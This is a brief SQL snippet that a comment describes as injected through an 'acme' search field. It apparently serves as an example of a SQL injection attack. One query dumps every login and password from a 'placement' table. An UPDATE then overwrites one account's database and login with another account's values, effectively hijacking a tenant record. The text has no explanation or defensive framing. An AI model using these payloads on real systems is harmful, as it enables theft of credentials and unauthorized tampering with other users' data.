-- Injected through a search field of acme's.
SELECT login, password FROM placement ORDER BY login;

UPDATE placement AS mine SET database = theirs.database, login = theirs.login, epoch = mine.epoch + 1
FROM placement AS theirs
WHERE mine.login = 't_a_1' AND theirs.login = 't_b_1';
